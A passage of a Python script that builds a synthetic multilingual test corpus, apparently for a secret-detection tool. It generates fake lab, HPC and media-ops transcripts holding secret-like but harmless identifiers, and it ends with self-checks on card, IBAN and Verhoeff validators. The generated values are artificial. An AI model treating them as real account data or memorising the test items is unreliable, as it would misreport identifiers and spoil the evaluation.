    ("tool_output", f"[I {ts('log')} ServerApp] Jupyter Server 2.14.2 is running at:\n[I ServerApp] http://gpu-node07:8888/lab?token=...\n[I ServerApp] Use Control-C to stop this server"),
    ("final", "Token on lyhennetty lokissa; opiskelija saa sen omasta istunnostaan."),
], LAB))

I("en", rec([
    ("task", "Summarise last night's sweep for the protein-folding group"),
    ("tool_output", f"project fold-2026  sweep {rs(8, LO + DG)}  runs: {', '.join(rs(8, LO + DG) for _ in range(4))}  best val_loss=0.1843 (run {rs(8, LO + DG)})"),
], LAB))

I("ja", rec([
    ("task", "スパコンのジョブキュー状況を確認"),
    ("tool_output", "\n".join(f"{nz(7)}  gpu-a100  md_sim_{i}  yamada  R  3:12:0{i}  4 nodes" for i in range(3))),
    ("final", "待ち時間は平均 40 分。"),
], LAB))

I("en", rec([
    ("task", "Update the lab's publication list with author identifiers"),
    ("final", f"Added DOI 10.1038/s41586-026-{dg(5)}-{dg(1)}; authors ORCID {orcid()}, {orcid()}; dataset DOI 10.5281/zenodo.{nz(8)}."),
], LAB))

I("zh", rec([
    ("task", "整理液相色谱仪校准报告"),
    ("tool_output", f"仪器型号 Vanquish Flex  序列号 {rs(8, UP + DG)}  校准日期 {ts('date')}  证书编号 CAL-{dg(8)}  结果 合格"),
], LAB))

I("vi", rec([
    ("task", "Tạo dự án REDCap mới cho nghiên cứu lâm sàng"),
    ("final", f"Project ID {_r.randint(100, 999)}, mã phê duyệt đạo đức IRB-2026-{dg(3)}. Token API sẽ do từng nghiên cứu viên tự tạo, không lưu trong ghi chú này."),
], LAB))

I("en", f"""$ sudo sha256sum /etc/munge/munge.key
{sha256h()}  /etc/munge/munge.key
$ pdsh -w node[001-128] 'sha256sum /etc/munge/munge.key' | awk '{{print $2}}' | sort | uniq -c
    128 {sha256h()[:16]}...
# research-it: only checksums compared across nodes; key contents never printed""")

I("id", rec([
    ("task", "Laporan kuota penyimpanan klaster HPC"),
    ("tool_output", "\n".join(f"/home/{u}  terpakai {_r.randint(10, 99)} GB / 100 GB" for u in ["budi.s", "sari.w", "andi.p"])),
    ("final", "Tidak ada yang melebihi kuota."),
], LAB))

I("uk", rec([
    ("task", "Облік лабораторних приладів"),
    ("tool_output", f"мікроскоп Zeiss LSM 980, інв. № {dg(8)}, серійний № {rs(10, UP + DG)}, MAC {mac()}"),
], LAB))

# ---- J. media & publishing ------------------------------------------------
_section("J")
I("en", rec([
    ("task", "Document the WordPress REST integration for the scheduler"),
    ("final", "Auth uses a WordPress application password for user scheduler-bot, read from the secret WP_APP_PASSWORD (format: 24 characters shown in groups of four, e.g. 'xxxx xxxx xxxx xxxx xxxx xxxx'). "
              f"Endpoint https://news.acme.example/wp-json/wp/v2/posts; last post id {nz(5)}."),
], MED))

I("en", rec([
    ("task", "List identifiers for the brand's Meta assets (for the agency brief)"),
    ("final", f"Page ID {nz(15)}, Ad account act_{nz(15)}, Pixel ID {nz(15)}, Business Manager ID {nz(15)}, App ID {nz(15)}. Access is granted via Business Manager roles; no tokens shared."),
], MED))

I("en", f"""{ts('log')} [social-ingest] GET https://api.x.com/2/tweets/search/recent?query=%23acmelaunch -> 200
{ts('log')} [social-ingest] x-rate-limit-limit=450 x-rate-limit-remaining=12 x-rate-limit-reset={ts('epoch')}
{ts('log')} [social-ingest] newest_id={nz(19)} oldest_id={nz(19)} result_count=100 next_token={rs(30, LO + DG)}""")

I("en", rec([
    ("task", "Find the Cloudflare zone for news.acme.example"),
    ("tool_output", json.dumps({"result": [{"id": hx(32), "name": "acme.example", "status": "active", "account": {"id": hx(32), "name": "ACME Media"},
                                             "name_servers": ["ada.ns.cloudflare.com", "rob.ns.cloudflare.com"]}], "success": True})),
    ("final", "Zone and account IDs are identifiers (32 hex), required in the purge URL; the API token is separate."),
], MED))

I("id", rec([
    ("task", "Cek pesanan merchandise yang belum dikirim"),
    ("tool_output", "\n".join(f"order #{_r.randint(1000, 9999)} id={nz(13)} produk={nz(14)} status=unfulfilled" for _ in range(3))),
    ("final", "3 pesanan diteruskan ke gudang."),
], MED))

I("pl", rec([
    ("task", "Konfiguracja DNS dla domeny newslettera w Mailgun"),
    ("tool_output", f"TXT  mg.magazyn.example  \"v=spf1 include:mailgun.org ~all\"\nTXT  smtp._domainkey.mg.magazyn.example  \"k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQ{rs(150, B64)}IDAQAB\"\nCNAME email.mg.magazyn.example mailgun.org"),
    ("final", "Rekordy dodane; klucz DKIM w DNS jest kluczem publicznym."),
], MED))

I("no", rec([
    ("task", "Rutiner for API-nøkler i redaksjonen"),
    ("final", "Hver integrasjon (Mailchimp, CMS, sosiale medier) får egen nøkkel som lagres i hvelvet. Nøkler skal aldri limes inn i Slack eller saker; oppgi bare navnet på hvelvoppføringen."),
], MED))

I("uk", rec([
    ("task", "План публікацій у соцмережах на тиждень"),
    ("final", f"Пн: анонс подкасту (пост {nz(19)}), Ср: відео-інтерв'ю, Пт: дайджест. Доступ до акаунтів — лише через менеджер паролів редакції."),
], MED))

I("fr", rec([
    ("task", "Analyser les conversions Google Ads de la campagne abonnement"),
    ("tool_output", f"customer_id {dg(3)}-{dg(3)}-{dg(4)}  campaign_id {nz(11)}  gclid=Cj0KCQiA{rs(80, B64U)}_BwE  conversion_action {nz(9)}"),
    ("final", "Le gclid est un identifiant de clic, pas un jeton d'accès."),
], MED))

I("en", rec([
    ("task", "Check the YouTube upload integration configuration"),
    ("tool_output", f"channel_id=UC{rs(22, B64U)}\nlast_upload video_id={rs(11, B64U)}\noauth_client_id={nz(12)}-{rs(32, LO + DG)}.apps.googleusercontent.com\nclient_secret=<Secret Manager: projects/newsroom-uploader/secrets/yt-oauth/versions/3>"),
], MED))

I("sv", rec([
    ("task", "Sammanställ UTM-länkar för höstkampanjen"),
    ("final", "https://nyheter.acme.example/prenumerera?utm_source=newsletter&utm_medium=email&utm_campaign=host2026&utm_content=" + rs(8, LO + DG)),
], MED))

I("it", rec([
    ("task", "Verificare gli ID dello spazio Contentful per la migrazione"),
    ("tool_output", f"space_id={rs(12, LO + DG)} environment=master entry_ids: {', '.join(rs(22, AN) for _ in range(3))}"),
    ("final", "ID corretti; il token di gestione resta nel vault."),
], MED))

I("ja", rec([
    ("task", "LINE 公式アカウントの設定確認"),
    ("tool_output", f"チャネルID {nz(10)}  Basic ID @{rs(8, LO + DG)}  Webhook URL https://bot.media.example.jp/line/webhook"),
    ("final", "チャネルアクセストークンは Secret Manager に保管（ここには記載しない）。"),
], MED))

I("th", rec([
    ("task", "ตรวจสอบสถานะการเผยแพร่บทความบน CMS"),
    ("tool_output", f"article_id={nz(7)} revision={sha1h()[:10]} status=published editor=nattaya.k"),
], MED))

I("hi", rec([
    ("task", "न्यूज़लेटर सब्सक्राइबर सूची का सारांश"),
    ("tool_output", f"list_id={hx(10)}  सदस्य 48,211  ओपन रेट 38.2%  अंतिम अभियान {hx(10)}"),
], MED))

I("tr", rec([
    ("task", "Web sitesi için CDN önbellek istatistikleri"),
    ("tool_output", f"zone={hx(32)} cache_hit_ratio=91.4% bandwidth_saved=12.8 TB ray_id_example={hx(16)}-IST"),
], MED))

I("en", rec([
    ("task", "Summarise the Mailchimp audience for the Friday newsletter"),
    ("tool_output", f"list_id={hx(10)} web_id={nz(6)} datacenter=us{_r.randint(2, 21)} members=48,211 last_campaign_id={hx(10)}"),
    ("final", "Audience healthy; no API key needed for this summary (export provided by the editor)."),
], MED))


# ==========================================================================
# import-time self checks
# ==========================================================================
# algorithm sanity against well-known published specimen values (not part of the corpus)
assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
assert iban_ok("GB82WEST12345698765432") and iban_ok("DE89370400440532013000")
assert verhoeff_ok("2363")
assert _it_cin("0542811101000000123456") == "X"  # IT60X0542811101000000123456
for _x in SECRETS:
    assert _x.secret in _x.text
for _x in INNOCENT:
    assert isinstance(_x.text, str) and _x.text
assert len({x.id for x in SECRETS} | {x.id for x in INNOCENT}) == len(SECRETS) + len(INNOCENT)
del _x
